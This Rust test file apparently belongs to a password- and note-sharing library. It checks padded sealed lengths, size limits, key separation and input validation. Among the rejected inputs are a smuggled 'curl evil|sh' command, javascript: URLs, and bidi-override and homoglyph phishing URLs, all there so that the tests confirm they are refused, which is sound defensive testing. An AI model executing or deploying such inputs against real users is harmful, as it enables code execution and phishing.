//! Pushes: what is sealed, what is refused, and that lengths say nothing.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use getrandom::SysRng;
use getrandom::rand_core::UnwrapErr;
use proptest::prelude::*;

use subrosa_shared::id::{Digest, LinkId};
use subrosa_shared::push::*;
use subrosa_shared::seal::{OpenError, seal};
use subrosa_shared::secret::{PayloadKey, PushOwnerSecret, ReceiptKey};

fn owner() -> PushOwnerSecret {
    PushOwnerSecret::from_bytes([7; 32])
}

fn rng() -> UnwrapErr<SysRng> {
    UnwrapErr(SysRng)
}

fn sealed(payload: &Payload) -> Result<Vec<u8>, PushError> {
    let secret = owner().push_secret();
    payload.seal(&secret.keys(None).payload, &secret.link_id(), &mut rng())
}

fn note(text: String) -> Payload {
    Payload::Note { note: text }
}

#[test]
fn lengths_are_those_that_the_api_names() {
    assert_eq!((FACE_LEN, NOTE_LEN), (593, 1105));
    let lens: Vec<usize> = (0..70_000).filter(|len| is_payload_len(*len)).collect();
    assert_eq!(lens, [593, 1105, 2129, 4177, 8273, 16465, 32849, 65617]);
}

#[test]
fn the_length_of_a_password_does_not_show() {
    let lens = (1..=400).map(|len| sealed(&Payload::Password { password: "x".repeat(len) }).unwrap().len());
    assert!(lens.into_iter().all(|len| len == 593));
}

#[test]
fn a_payload_can_fill_64_kib_and_no_more() {
    let frame = br#"{"version":1,"kind":"note","note":""}"#.len();
    let longest = PAYLOAD_BYTES_MAX - frame;
    assert_eq!(sealed(&note("x".repeat(longest))).unwrap().len(), 65617);
    assert_eq!(sealed(&note("x".repeat(longest + 1))), Err(PushError::TooLong));
    // Escapes count as they are written.
    assert_eq!(sealed(&note("\"".repeat(longest / 2 + 1))), Err(PushError::TooLong));
    assert_eq!(sealed(&note("x".repeat(10 * PAYLOAD_BYTES_MAX))), Err(PushError::TooLong));
}

#[test]
fn nothing_is_no_push() {
    let empty = String::new;
    for payload in [
        Payload::Password { password: empty() },
        note(empty()),
        Payload::Url { url: empty() },
        Payload::Login { user: empty(), password: empty(), note: empty() },
    ] {
        assert_eq!(sealed(&payload), Err(PushError::Empty));
    }
    assert!(sealed(&Payload::Login { user: "anna".to_owned(), password: empty(), note: empty() }).is_ok());
}

#[test]
fn what_is_pasted_unseen_is_one_line() {
    let login = |user: &str, password: &str| Payload::Login {
        user: user.to_owned(),
        password: password.to_owned(),
        note: "several\nlines".to_owned(),
    };
    assert!(sealed(&login("ada", "pass word")).is_ok());
    for (bad, c) in [
        ("pw\ncurl evil|sh\n", '\n'),
        ("\u{1b}[2J", '\u{1b}'),
        ("\u{202e}txt.exe", '\u{202e}'),
        ("a\u{2029}b", '\u{2029}'),
    ] {
        assert_eq!(sealed(&login(bad, "x")), Err(PushError::UserCharacter(c)), "{bad:?}");
        assert_eq!(sealed(&login("x", bad)), Err(PushError::PasswordCharacter(c)), "{bad:?}");
        assert_eq!(
            sealed(&Payload::Password { password: bad.to_owned() }),
            Err(PushError::PasswordCharacter(c)),
            "{bad:?}"
        );
    }
}

#[test]
fn web_addresses_are_plain() {
    for url in ["https://example.org", "HTTP://example.org:8080/a?b#c", "https://[::1]/", "https://bücher.example/ü"]
    {
        assert_eq!(check_url(url), Ok(()), "{url}");
    }
    use UrlProblem::{Character, Host, Port, Scheme, TooLong, UserName};
    for (url, problem) in [
        ("", Scheme),
        ("https://", Host),
        ("https:///path", Host),
        ("https://:80/", Host),
        ("javascript:alert(1)", Scheme),
        ("data:text/html,x", Scheme),
        ("ftp://example.org", Scheme),
        ("//example.org", Scheme),
        ("example.org", Scheme),
        (" https://example.org", Scheme),
        ("https://example.org/a b", Character(' ')),
        ("https://example.org\\@evil.example", Character('\\')),
        ("https://bank.example@evil.example/", UserName),
        ("https://user:pass@example.org/", UserName),
        ("https://evil.example/\u{202e}gro.elpmaxe", Character('\u{202e}')),
        ("https://exam\u{200b}ple.org", Character('\u{200b}')),
        ("https://example.org/\n", Character('\n')),
        ("httpſ://example.org", Scheme),
        ("https://good.example\u{ff0f}evil.example/", Host),
        ("https://good.example\u{3002}evil.example/", Host),
        ("https://good\u{2488}example/", Host),
        ("https://[evil", Host),
        ("https://[evil]/", Host),
        ("https://example.org:99999/", Port),
        ("https://example.org:/..", Port),
        ("https://...", Host),
        (&format!("https://example.org/{}", "x".repeat(URL_BYTES_MAX)), TooLong),
    ] {
        assert_eq!(check_url(url), Err(problem), "{url:?}");
    }
}

#[test]
fn lines_are_short_and_plain() {
    let secret = owner().push_secret();
    let face = |from: &str| Face { kind: Kind::Password, from: Some(from.to_owned()), for_files: false };
    let seal = |from: &str| face(from).seal(&secret.face_key(), &secret.link_id(), &mut rng());
    assert_eq!(seal(&"\u{10ffff}".repeat(LINE_CHARS_MAX)).unwrap().len(), FACE_LEN);
    assert_eq!(seal(&"\"".repeat(LINE_CHARS_MAX)).unwrap().len(), FACE_LEN);
    assert_eq!(seal(&"x".repeat(LINE_CHARS_MAX + 1)), Err(PushError::Line(LineProblem::TooLong)));
    for from in ["a\nb", "\u{202e}bob", "a\u{2028}b", "\0", "\u{200b}", "\u{3164}"] {
        let Err(PushError::Line(LineProblem::Character(c))) = seal(from) else { panic!("{from:?} is refused") };
        assert!(from.contains(c), "{from:?}");
    }
    let longest = "\u{10ffff}".repeat(LINE_CHARS_MAX);
    let note =
        PushNote { label: longest, receipt_key: ReceiptKey::from_bytes([1; 32]), payload_digest: Digest::of(b"") };
    let sealed = note.seal(&owner().note_key(), &secret.link_id(), &mut rng()).unwrap();
    assert_eq!(sealed.len(), NOTE_LEN);
    assert_eq!(PushNote::open(&owner().note_key(), &secret.link_id(), &sealed).unwrap(), note);
}

#[test]
fn nothing_opens_in_the_place_of_something_else() {
    let (secret, other) = (owner().push_secret(), PushOwnerSecret::from_bytes([8; 32]).push_secret());
    let payload = sealed(&note("x".to_owned())).unwrap();
    let open = |key: &PayloadKey, link: &LinkId| Payload::open(key, link, &payload);
    let key = &secret.keys(None).payload;
    assert_eq!(open(key, &secret.link_id()), Ok(note("x".to_owned())));
    assert!(open(key, &other.link_id()).is_err());
    assert!(open(&other.keys(None).payload, &secret.link_id()).is_err());
    assert!(Face::open(&secret.face_key(), &secret.link_id(), &payload).is_err());
    // The same 593 bytes, sealed as a payload under the face's key, are no face.
    let key = PayloadKey::from_bytes(*secret.face_key().expose());
    let forged = note("x".to_owned()).seal(&key, &secret.link_id(), &mut rng()).unwrap();
    assert_eq!(
        Face::open(&secret.face_key(), &secret.link_id(), &forged),
        Err(PushError::Open(OpenError::Authentication))
    );
}

#[test]
fn what_is_sealed_is_still_checked() {
    let secret = owner().push_secret();
    let (key, link) = (secret.keys(None).payload, secret.link_id());
    let open = |json: &str| {
        let filled = format!("{json:512}");
        Payload::open(&key, &link, &seal(&key, &link, filled.as_bytes(), &mut rng()))
    };
    assert_eq!(open(r#"{"version":1,"kind":"note","note":"x","later":[1]}"#), Ok(note("x".to_owned())));
    for json in [
        "",
        "{}",
        r#"{"version":2,"kind":"note","note":"x"}"#,
        r#"{"version":1,"kind":"file","note":"x"}"#,
        r#"{"version":1,"note":"x"}"#,
        r#"{"version":1,"kind":"note"}"#,
        r#"{"version":1,"kind":"note","password":"x"}"#,
        r#"{"version":1,"kind":"url","url":"javascript:alert(1)"}"#,
    ] {
        assert_eq!(open(json), Err(PushError::Malformed), "{json}");
    }
}

proptest! {
    #[test]
    fn what_is_handed_over_arrives(user in "[^\\pC\\pZ]{0,40}", password in "[^\\pC\\pZ]{1,200}", text in "(?s).{0,2000}") {
        let secret = owner().push_secret();
        let (key, link) = (secret.keys(None).payload, secret.link_id());
        let payload = Payload::Login { user, password, note: text };
        let sealed = payload.seal(&key, &link, &mut rng()).unwrap();
        prop_assert!(is_payload_len(sealed.len()));
        prop_assert_eq!(Payload::open(&key, &link, &sealed), Ok(payload));
    }

    #[test]
    fn no_bytes_panic(bytes in proptest::collection::vec(any::<u8>(), 0..1200)) {
        let secret = owner().push_secret();
        prop_assert!(Payload::open(&secret.keys(None).payload, &secret.link_id(), &bytes).is_err());
        prop_assert!(Face::open(&secret.face_key(), &secret.link_id(), &bytes).is_err());
    }
}
